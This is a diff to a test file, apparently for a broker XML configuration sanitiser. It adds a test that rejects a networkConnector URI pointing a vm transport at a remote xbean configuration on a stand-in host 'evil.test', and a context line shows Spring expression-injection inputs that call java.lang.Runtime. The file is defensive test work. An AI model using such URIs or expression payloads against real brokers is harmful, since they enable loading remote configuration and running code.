@@ -126,6 +126,13 @@ test.each(['${user.home}', 'a#{T(java.lang.Runtime)}', '#someBean', ' #someBean'
   },
 )
 
+test('a network connector reaches brokers, and no transport that loads a configuration from anywhere', () => {
+  const { warnings } = sanitised(
+    '<networkConnectors><networkConnector name="n" uri="static:(vm://evil?brokerConfig=xbean:http://evil.test/x.xml)"/></networkConnectors>',
+  )
+  expect(warnings).toEqual([{ reason: INVALID_VALUE, elementName: 'networkConnector', attributeName: 'uri' }])
+})
+
 test.each([
   ['0', true],
   ['70', true],
